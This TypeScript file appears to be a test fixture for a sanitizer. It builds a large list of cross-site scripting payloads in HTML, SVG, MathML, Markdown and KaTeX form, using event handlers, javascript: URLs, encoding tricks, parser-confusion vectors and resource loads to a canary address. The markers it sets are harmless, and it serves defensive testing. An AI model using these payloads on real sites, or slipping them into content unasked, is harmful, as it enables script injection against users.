// Ways in which a text tries to become code: as HTML, as Markdown, as a formula, as an address. Each that runs says so by a
// property of the window, by a dialog, or by asking the address that it is given.

/** What a payload does when it runs; without quotes, blanks and angle brackets, so that it fits into any attribute. */
export const MARK = '__xss'
const RUN = `window.${MARK}=1`

/** For fields with room for a few characters. */
export const SHORT = `<svg onload=${MARK}=1>`
export const NAME = `<img src=x onerror=${RUN}>`

/** All of them; `there` is an address that nothing may ask. */
export function payloads(there: string): string[] {
  const html = [
    `<script>${RUN}</script>`,
    `<SCRIPT SRC=${there}/script.js></SCRIPT>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<script/x>${RUN}</script ignored>`,
    `<img src=x onerror=${RUN}>`,
    `<img src="${there}/pixel.gif" alt="pixel">`,
    `<img/src=x/onerror=alert(1)>`,
    `<img srcset="${there}/set.gif 1x" onload=${RUN}>`,
    `"><img src=x onerror=${RUN}>`,
    `'><svg onload=${RUN}>`,
    `" autofocus onfocus=${RUN} x="`,
    `' onmouseover='${RUN}' style='position:fixed;inset:0`,
    '`onmouseover=alert(1)`',
    `<svg onload=${RUN}></svg>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
    `<svg><a xlink:href="javascript:${RUN}"><text y="20">go</text></a></svg>`,
    `<svg><animate attributeName=href values=javascript:${RUN} /><set attributeName=onload to=${RUN} /></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#x"/></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.${MARK}=1</script>"></iframe></foreignObject></svg>`,
    `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
    `<math href="javascript:${RUN}">go</math>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    `<style>@import "${there}/style.css"; * { background: url(${there}/background) }</style>`,
    `<div style="background: url('${there}/block'); width: 9px; height: 9px">box</div>`,
    `<div style="width: expression(alert(1)); behavior: url(${there}/x.htc); -moz-binding: url(${there}/x)">old</div>`,
    `<link rel=stylesheet href="${there}/link.css"><link rel=prefetch href="${there}/prefetch">`,
    `<iframe srcdoc="<script>parent.${MARK}=1</script>"></iframe>`,
    `<iframe src="javascript:parent.${MARK}=1"></iframe>`,
    `<iframe src="${there}/frame"></iframe>`,
    `<object data="javascript:${RUN}"></object><object data="${there}/object"></object>`,
    `<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
    `<form action="javascript:${RUN}"><button>send</button></form>`,
    `<form id=f action="${there}/form"></form><button form=f formaction="javascript:${RUN}">send</button>`,
    `<input autofocus onfocus=${RUN}><select autofocus onfocus=${RUN}></select><textarea autofocus onfocus=${RUN}></textarea>`,
    `<details open ontoggle=${RUN}><summary>more</summary></details>`,
    `<video src=x onerror=${RUN}><source onerror=${RUN}></video><audio src="${there}/sound" autoplay></audio>`,
    `<video poster="${there}/poster"></video><body background="${there}/body" onload=${RUN}>`,
    `<meta http-equiv="refresh" content="0; url=${there}/refresh">`,
    `<meta http-equiv="refresh" content="0; url=javascript:${RUN}">`,
    `<base href="${there}/"><a href="relative">go</a>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></p></noscript>`,
    `<template><img src=x onerror=${RUN}></template><template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
    `<textarea></textarea><img src=x onerror=${RUN}><title></title><img src=x onerror=${RUN}>`,
    `<!--><img src=x onerror=${RUN}>--> <![CDATA[><img src=x onerror=${RUN}>]]> <?x ><img src=x onerror=${RUN}>?>`,
    `<marquee onstart=${RUN}>go</marquee><xss style="animation: x" onanimationstart=${RUN}>go</xss>`,
    `<a href="javascript:${RUN}">go</a> <a href=" java\tscript:${RUN}">go</a> <a href="&#106;avascript&colon;${RUN}">go</a>`,
    `<a href="data:text/html,<script>${RUN}</script>" ping="${there}/ping">go</a><a href="vbscript:msgbox(1)">go</a>`,
    `<img name=getElementById><form name=querySelector><input name=attributes></form><a id=location href="${there}/clobber">go</a>`,
  ]
  const entities = [
    `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62; &#x3c;svg onload=${RUN}&#x3e;`,
    `\u0000<img src=x onerror=${RUN}> <im\u0000g src=x onerror=${RUN}>`.replaceAll('\u0000', '\ufffd'),
    `\u202e<img src=x onerror=${RUN}>\u202c \u2066<svg onload=${RUN}>\u2069 \ufeff<script>${RUN}</script>`,
    `＜script＞${RUN}＜/script＞ \u2028<svg\u000bonload=${RUN}> <svg\u000conload=${RUN}>`,
  ]
  const markdown = [
    `[go](javascript:${RUN}) [go](JaVaScRiPt:${RUN}) [go](<java\tscript:${RUN}>) [go](\u0001javascript:${RUN})`,
    `[go](vbscript:msgbox(1)) [go](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [go](blob:null/1)`,
    `[go](&#106;avascript:${RUN}) [go](javascript&colon;${RUN}) [go](javascript&#x3a;${RUN}) [go](%6aavascript:${RUN})`,
    `[go][evil] ![go][evil] [evil]\n\n[evil]: javascript:${RUN} "a title\\" onmouseover=${RUN}"`,
    `<javascript:${RUN}> <data:text/html,${RUN}> <vbscript:x> javascript:${RUN} feed:javascript:${RUN}`,
    `![pixel](${there}/markdown.gif) ![pixel](//${new URL(there).host}/relative.gif "title")`,
    `![x](javascript:${RUN}) ![x](data:image/svg+xml,<svg/onload=${RUN}>) ![x](x"onerror="${RUN})`,
    `[![x](${there}/inner.gif)](javascript:${RUN})`,
    `[go](https://example.org/"onmouseover="${RUN}) [go](https://example.org 'x" onfocus="${RUN}')`,
    `\`\`\`js"><img/src=x/onerror=${RUN}>\ncode</code></pre><img src=x onerror=${RUN}>\n\`\`\``,
    `\`\`\`html onload=${RUN} "><script>\n<script>${RUN}</script>\n\`\`\``,
    `~~~<svg/onload=${RUN}>\n<svg onload=${RUN}>\n~~~`,
    `$\\href{javascript:${RUN}}{go}$ $\\url{javascript:${RUN}}$ $\\htmlData{x=1}{y}$`,
    `$$\\includegraphics{${there}/formula.gif} \\htmlStyle{background:url(${there}/style)}{x} \\htmlId{x}{y}$$`,
    `\\(\\href{javascript:${RUN}}{go}\\) \\[\\text{<img src=x onerror=${RUN}>}\\] \\(\\unicode{<svg onload=${RUN}>}\\)`,
    `| a | <img src=x onerror=${RUN}> |\n|---|---|\n| <svg onload=${RUN}> | [go](javascript:${RUN}) |`,
    `note[^"onload=${RUN}]\n\n[^"onload=${RUN}]: <img src=x onerror=${RUN}> [go](javascript:${RUN})`,
    `# <svg onload=${RUN}> {#x onclick=${RUN}}\n\n- [ ] <input onfocus=${RUN} autofocus>`,
  ]
  return [...html, ...entities, ...markdown]
}

/** Formulas of which each is drawn: what KaTeX would link, load or style if it were trusted. */
export const formulas = (there: string): string[] =>
  [
    `\\href{javascript:${RUN}}{go}`,
    `\\href{data:text/html,${RUN}}{go}`,
    `\\url{javascript:${RUN}}`,
    `\\includegraphics{${there}/formula.gif}`,
    `\\htmlStyle{background:url(${there}/formula-style)}{x}`,
    `\\htmlData{x=1}{y} \\htmlId{location}{y} \\htmlClass{fixed}{y}`,
    `\\text{<img src=x onerror=${RUN}>} \\text{<svg onload=${RUN}>}`,
    `\\def\\x{\\href{javascript:${RUN}}}\\x{go}`,
  ].map((formula) => `$$\n${formula}\n$$`)

/** What would end an element, a comment or a block that one of them left open, so that the next has its turn. */
export const CLOSED = '\n\n--> ]]> ?> </style></script></textarea></title></noscript></template>\n\n'

/** In groups of so many, each a text. */
export function inTexts(all: readonly string[], size: number, between = CLOSED): string[] {
  const texts: string[] = []
  for (let at = 0; at < all.length; at += size) texts.push(all.slice(at, at + size).join(between))
  return texts
}
